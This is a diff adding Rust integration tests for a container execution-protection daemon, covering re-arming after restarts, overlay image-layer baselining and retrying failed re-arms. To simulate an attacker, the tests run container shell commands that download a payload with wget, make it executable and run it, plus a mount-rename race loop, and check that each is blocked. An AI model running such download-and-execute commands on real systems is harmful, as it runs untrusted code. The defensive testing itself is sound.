@@ -416,3 +416,221 @@ fn issue_14_huge_sparse_executables_are_denied_without_hashing() {
         "issue 14 sparse files: 32 × 8 EiB sparse executables denied without hashing in {all:?} (slowest {slowest:?})"
     ));
 }
+
+/// Issue 14 (1): a restarted daemon never baselines what a running container wrote. The
+/// attacker writes a payload into the container's writable layer (not a tmpfs), waits for
+/// the daemon to restart (here with an indicator list, which changes the store key, and
+/// then with its stored baselines gone), and runs it. Before the fix the re-arm appended the
+/// indicator suffix a second time, found no baseline and snapshotted the live rootfs:
+/// `/var/tmp/k` then ran (exit 0).
+#[test]
+fn issue_14_a_restart_never_baselines_the_containers_writable_layer() {
+    use crate::node::{BUSYBOX, Node, text};
+    let Some(mut node) = Node::new("rearm-live") else {
+        return;
+    };
+    node.run_detached(BUSYBOX, "live-1");
+    let mut n = 0;
+    let mut exec = |node: &Node, script: &str| {
+        n += 1;
+        text(&node.ctr(&[
+            "tasks",
+            "exec",
+            "--exec-id",
+            &format!("e{n}"),
+            "live-1",
+            "sh",
+            "-c",
+            script,
+        ]))
+    };
+    let plant = format!(
+        "mkdir -p /var/tmp && wget -q -O /var/tmp/k {url} && chmod +x /var/tmp/k && \
+         cp /var/tmp/k /bin/k2 && /var/tmp/k >/dev/null 2>&1; echo k=$?; /bin/k2 >/dev/null 2>&1; echo k2=$?",
+        url = node.payload_url()
+    );
+    let t = exec(&node, &plant);
+    assert!(t.contains("k=126") && t.contains("k2=126"), "{t}");
+
+    let indicators = node.dir.join("indicators.txt");
+    fs::write(
+        &indicators,
+        "0000000000000000000000000000000000000000000000000000000000000001 test-indicator\n",
+    )
+    .unwrap();
+    let run_all = format!(
+        "/var/tmp/k >/dev/null 2>&1; echo k=$?; /bin/k2 >/dev/null 2>&1; echo k2=$?; \
+         wget -q -O /tmp/p {url} && chmod +x /tmp/p; /tmp/p >/dev/null 2>&1; echo p=$?; \
+         ls / >/dev/null; echo ls=$?",
+        url = node.payload_url()
+    );
+    // Restart 1: SIGKILL, then a daemon with an indicator list (a new store key).
+    node.kill_daemon();
+    node.set_daemon_args(&["--indicators", indicators.to_str().unwrap()]);
+    node.start_daemon();
+    let t = exec(&node, &run_all);
+    assert!(
+        t.contains("k=126") && t.contains("k2=126") && t.contains("p=126") && t.contains("ls=0"),
+        "after a restart with --indicators: {t}"
+    );
+    // Restart 2: every stored baseline gone; the image's layers are snapshotted again.
+    node.kill_daemon();
+    for e in fs::read_dir(node.dl_state.join("baselines"))
+        .unwrap()
+        .flatten()
+    {
+        fs::remove_file(e.path()).unwrap();
+    }
+    node.start_daemon();
+    let status = node.status();
+    assert_eq!(status["units"][0]["id"], "live-1", "{status}");
+    let t = exec(&node, &run_all);
+    assert!(
+        t.contains("k=126") && t.contains("k2=126") && t.contains("p=126") && t.contains("ls=0"),
+        "after a restart without stored baselines: {t}"
+    );
+    let _ = node.ctr(&["tasks", "kill", "-s", "SIGKILL", "live-1"]);
+}
+
+/// Issue 14 (1): an overlay rootfs is baselined through its image layers alone. The
+/// container's writable layer already holds a planted program when the unit is armed (a
+/// container restarted, or re-armed, after writing into its rootfs); it is not in the
+/// baseline, while programs of both image layers are, and a whiteout hides what it hides.
+/// Before the fix the merged view was snapshotted and the planted program ran.
+#[test]
+fn issue_14_an_overlay_is_baselined_from_its_image_layers_only() {
+    use crate::support::{EPERM, exec};
+    if !root_or_skip("issue 14 image layers only") {
+        return;
+    }
+    let mut sb = Sandbox::new("issue14lower");
+    let d = |n: &str| sb.dir.join(n);
+    let (l1, l2, upper, work, merged) = (d("L1"), d("L2"), d("U"), d("W"), d("M"));
+    for p in [&l1, &l2, &upper, &work, &merged] {
+        fs::create_dir_all(p.join("bin")).unwrap();
+    }
+    sb.install("/usr/bin/true", &l1.join("bin/true"));
+    sb.install("/usr/bin/cat", &l1.join("bin/cat"));
+    sb.install("/usr/bin/id", &l2.join("bin/id"));
+    // A whiteout in the upper image layer deletes bin/cat of the lower one.
+    assert!(
+        Command::new("mknod")
+            .arg(l2.join("bin/cat"))
+            .args(["c", "0", "0"])
+            .status()
+            .unwrap()
+            .success()
+    );
+    // What the container wrote before this arm: a program of its own, and a changed image
+    // program (copied up).
+    sb.install("/usr/bin/env", &upper.join("bin/planted"));
+    sb.install("/usr/bin/env", &upper.join("bin/true"));
+    let opts = format!(
+        "lowerdir={}:{},upperdir={},workdir={}",
+        l2.display(),
+        l1.display(),
+        upper.display(),
+        work.display()
+    );
+    assert!(
+        Command::new("mount")
+            .args(["-t", "overlay", "overlay", "-o", &opts])
+            .arg(&merged)
+            .status()
+            .unwrap()
+            .success()
+    );
+    sb.start_daemon(&[]);
+    let out = sb.client(&["arm", "--id", "lower", "--rootfs", merged.to_str().unwrap()]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(exec(&merged.join("bin/id")), Ok(0), "upper image layer");
+    assert!(!merged.join("bin/cat").exists(), "whited out");
+    assert_eq!(
+        exec(&merged.join("bin/planted")),
+        EPERM,
+        "planted before the arm"
+    );
+    assert_eq!(
+        exec(&merged.join("bin/true")),
+        EPERM,
+        "an image program the container changed before the arm"
+    );
+    // The image's own `true` is still allowed wherever it is.
+    sb.install(
+        l1.join("bin/true").to_str().unwrap(),
+        &merged.join("bin/true2"),
+    );
+    assert_eq!(exec(&merged.join("bin/true2")), Ok(0), "the image's true");
+    sb.kill_daemon();
+    let _ = Command::new("umount").arg(&merged).status();
+}
+
+/// Issue 14 (3): a container's root can make a re-arm fail (here by renaming, in a loop,
+/// the parent directory of one of its mounts while the restarted daemon resolves them).
+/// Before the fix the record was deleted on the first failure and the container ran
+/// unprotected for the rest of its life. Now the unit is kept, shown as pending in
+/// `status`, and retried until armed.
+#[test]
+fn issue_14_a_failed_rearm_is_kept_and_retried() {
+    use crate::node::{BUSYBOX, Node, text, wait_for};
+    use std::time::Duration;
+    let Some(mut node) = Node::new("rearm-retry") else {
+        return;
+    };
+    node.run_detached_with(
+        BUSYBOX,
+        "race-1",
+        &["--mount", "type=tmpfs,src=tmpfs,dst=/a/m,options=nosuid"],
+    );
+    let exec = |node: &Node, n: &str, detach: bool, script: &str| {
+        let mut args = vec!["tasks", "exec"];
+        if detach {
+            args.push("-d");
+        }
+        args.extend_from_slice(&["--exec-id", n, "race-1", "sh", "-c", script]);
+        text(&node.ctr(&args))
+    };
+    let fetch = format!(
+        "wget -q -O /tmp/p {} && chmod +x /tmp/p; /tmp/p >/dev/null 2>&1; echo rc=$?",
+        node.payload_url()
+    );
+    assert!(exec(&node, "f1", false, &fetch).contains("rc=126"));
+    exec(
+        &node,
+        "racer",
+        true,
+        "while [ ! -e /stop ]; do mv /a /b; mv /b /a; done",
+    );
+    // Restart until a re-arm loses the race (each does with even odds).
+    let mut lost = false;
+    for _ in 0..12 {
+        node.kill_daemon();
+        node.start_daemon();
+        let status = node.status();
+        if status["units"].as_array().is_some_and(Vec::is_empty) {
+            lost = true;
+            let pending = &status["rearm_pending"];
+            assert_eq!(pending[0]["id"], "race-1", "kept and shown: {status}");
+            break;
+        }
+    }
+    assert!(lost, "no re-arm lost the race in 12 restarts");
+    exec(&node, "stop", false, "touch /stop");
+    wait_for("the retried re-arm", Duration::from_secs(30), || {
+        node.status()["units"]
+            .as_array()
+            .is_some_and(|u| u.iter().any(|u| u["id"] == "race-1"))
+    });
+    let status = node.status();
+    assert!(
+        status["rearm_pending"].as_array().is_none_or(Vec::is_empty),
+        "{status}"
+    );
+    let t = exec(&node, "f2", false, "/tmp/p >/dev/null 2>&1; echo rc=$?");
+    assert!(t.contains("rc=126"), "protected again: {t}");
+    let _ = node.ctr(&["tasks", "kill", "-s", "SIGKILL", "race-1"]);
+}
